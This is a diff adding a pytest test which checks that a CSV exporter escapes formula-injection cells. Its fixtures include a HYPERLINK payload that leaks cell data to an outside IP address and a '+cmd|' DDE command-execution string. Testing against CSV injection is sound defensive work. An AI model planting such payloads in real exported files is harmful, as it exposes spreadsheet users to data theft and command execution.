@@ -409,3 +409,20 @@ def test_guide_listing_validates_ids_and_driver_type():
     with pytest.raises(ValueError, match="driver_type"):
         GuideListing(**{**x.__dict__, "driver_type": "partner"})
     assert GuideListing(**{**x.__dict__, "svid": None, "ssid": None}).svid is None
+
+
+def test_exchange_csv_cells_never_run_as_formulas_and_read_back_the_same(tmp_path):
+    """Issue 29 §15: ``vcg export`` kept ``=HYPERLINK(…)`` / ``+cmd|…`` cells as they were (OWASP CSV injection)."""
+    import csv
+    import dataclasses
+
+    x = read_guide_file(EX_CSV).listings[0]
+    hostile = dataclasses.replace(x, model='=HYPERLINK("http://198.51.100.7/?"&A1,"click")',
+                                  vendor="+cmd|' /C calc'!A0", driver_version="@SUM(1+1)", release=None)
+    out = tmp_path / "export.csv"
+    write_exchange_csv([hostile], out)
+    rows = list(csv.reader(line for line in out.read_text().splitlines() if not line.startswith("#")))
+    cells = dict(zip(rows[0], rows[1]))
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in rows[1])
+    assert cells["model"].startswith("'=HYPERLINK(") and cells["vendor"].startswith("'+cmd|")
+    assert read_guide_file(out).listings == (hostile,)  # the values read back as they were
